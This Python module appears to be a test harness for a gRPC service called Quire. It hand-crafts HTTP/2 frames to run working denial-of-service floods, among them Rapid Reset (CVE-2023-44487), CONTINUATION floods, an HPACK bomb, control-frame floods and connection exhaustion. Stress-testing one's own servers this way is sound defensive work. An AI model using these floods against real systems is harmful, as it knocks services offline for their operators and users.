"""Floods of HTTP/2 frames and connections, spoken by hand: no library would send them."""
import socket
import struct
import threading
import time

SOURCE = "127.0.0.9"  # no honest client's address, so that a proxy can tell floods from them
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
BATCH = 200  # frames in one write
PATH = b"/quire.v1.GenerationService/Generate"
WATCH = b"/grpc.health.v1.Health/Watch"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    """A header as HPACK has it, without compression, not to be remembered."""
    return b"\0" + _string(name) + _string(value)


def _string(text):
    """The length has 7 bits, and goes on in bytes of 7 bits."""
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + text


def header_block(path):
    return b"".join(field(*pair) for pair in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"flood"),
        (b"te", b"trailers"), (b"content-type", b"application/grpc")))


HEADER_BLOCK = header_block(PATH)


def call_frames(stream, message, is_compressed=False, block=HEADER_BLOCK):
    """Returns the frames of a whole call. REQUIRES: the message fits a frame."""
    body = struct.pack(">BI", is_compressed, len(message)) + message
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)


class Connection:
    """A connection, with a thread that drops the bytes that arrive."""

    def __init__(self, address, source=SOURCE):
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), 10, (source, 0))
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        self.is_open = True
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        try:
            while self.socket.recv(1 << 16):
                pass
        except OSError:
            pass
        self.is_open = False

    def close(self):
        self.socket.close()


class Flood:
    """Sends what `batches` yields over connections that it opens again as often as they are closed."""

    def __init__(self, address, batches):
        self.num_frames = self.num_connections = self.num_refused = 0
        self._address, self._batches = address, batches

    def run(self, end):
        while time.monotonic() < end:
            try:
                connection = Connection(self._address)
            except OSError:
                self.num_refused += 1
                time.sleep(0.01)
                continue
            self.num_connections += 1
            try:
                for batch in self._batches():
                    if time.monotonic() > end or not connection.is_open:
                        break
                    connection.socket.sendall(batch)
                    self.num_frames += BATCH
            except OSError:
                pass
            connection.close()


def streams():
    """Ids of a client's streams."""
    return range(1, 1 << 31, 2)


def grouped(frames):
    batch = []
    for each in frames:
        batch.append(each)
        if len(batch) == BATCH:
            yield b"".join(batch)
            batch = []


def rapid_reset():
    """CVE-2023-44487: a stream is cancelled as soon as it begins, so that the limit of streams never holds."""
    return grouped(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK)
                   + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in streams())


def reset_requests():
    """Resets streams that each carry a whole request, which Quire parses."""
    message = b"\x0a\x05hello"
    body = b"\0" + struct.pack(">I", len(message)) + message
    return grouped(frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK)
                   + frame(DATA, END_STREAM, stream, body)
                   + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in streams())


def continuation():
    """CVE-2024-27316 and its kin: the headers of one stream never end."""
    yield frame(HEADERS, 0, 1, HEADER_BLOCK)
    while True:
        yield frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100) * BATCH


def hpack_bomb():
    """A header of 4 KB is put into the peer's table. Each byte that follows is that header again."""
    remembered = b"\x40" + _string(b"bomb") + _string(b"x" * 3900)
    yield frame(HEADERS, END_HEADERS, 1, HEADER_BLOCK + remembered) * 1
    for stream in range(3, 1 << 31, 2):
        yield frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK + b"\xbe" * 16000)


def ping():
    while True:
        yield frame(PING, 0, 0, b"12345678") * BATCH


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * BATCH


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, HEADER_BLOCK)
    while True:
        yield frame(DATA, 0, 1) * BATCH


def priority():
    """Makes each stream depend on the stream before, which gives a long list if the server keeps it."""
    return grouped(frame(PRIORITY, 0, stream, struct.pack(">IB", stream - 2 if stream > 1 else 0, 15))
                   for stream in streams())


def half_messages():
    """Sends as much of a message as the windows let through, on 100 streams, and then stops."""
    head = b"\0" + struct.pack(">I", 4 << 20)
    for stream in range(1, 200, 2):
        yield frame(HEADERS, END_HEADERS, stream, HEADER_BLOCK) + frame(DATA, 0, stream, head + b"x" * 600)
    while True:
        time.sleep(0.1)
        yield b""


class IdleConnections:
    """Opens as many silent connections as the server takes, up to `count`."""

    def __init__(self, address, count=3000):
        self.num_frames = self.num_connections = self.num_refused = 0
        self._address, self._count = address, count

    def run(self, end):
        connections = []
        host, _, port = self._address.rpartition(":")
        while len(connections) < self._count and time.monotonic() < end:
            try:
                connections.append(socket.create_connection((host, int(port)), 1, (SOURCE, 0)))
                self.num_connections += 1
            except OSError:
                self.num_refused += 1
                time.sleep(0.01)
        time.sleep(max(0.0, end - time.monotonic()))
        for connection in connections:
            connection.close()


class HeldCalls:
    """Begins calls_per_second calls a second, 100 on each connection, and holds them until the end."""

    def __init__(self, address, path, message=b"", calls_per_second=45, source=SOURCE):
        self.num_frames = self.num_connections = self.num_refused = 0
        self._address, self._source = address, source
        self._message, self._block = message, header_block(path)
        self._pause = 1 / calls_per_second

    def run(self, end):
        connections, stream = [], 1
        next_at = time.monotonic()
        while time.monotonic() < end:
            try:
                if stream == 1:
                    connections.append(Connection(self._address, self._source))
                    self.num_connections += 1
                connections[-1].socket.sendall(call_frames(stream, self._message, block=self._block))
                self.num_frames += 1
                stream = (stream + 2) % 200
            except OSError:
                self.num_refused += 1
                stream = 1
            next_at += self._pause
            time.sleep(max(0.0, next_at - time.monotonic()))
        for connection in connections:
            connection.close()


FLOODS = {
    "rapid-reset": lambda address: Flood(address, rapid_reset),
    "reset-requests": lambda address: Flood(address, reset_requests),
    "continuation": lambda address: Flood(address, continuation),
    "hpack-bomb": lambda address: Flood(address, hpack_bomb),
    "ping": lambda address: Flood(address, ping),
    "settings": lambda address: Flood(address, settings),
    "empty-data": lambda address: Flood(address, empty_data),
    "priority": lambda address: Flood(address, priority),
    "half-messages": lambda address: Flood(address, half_messages),
    "idle-connections": IdleConnections,
    "health-watch": lambda address: HeldCalls(address, WATCH),
}
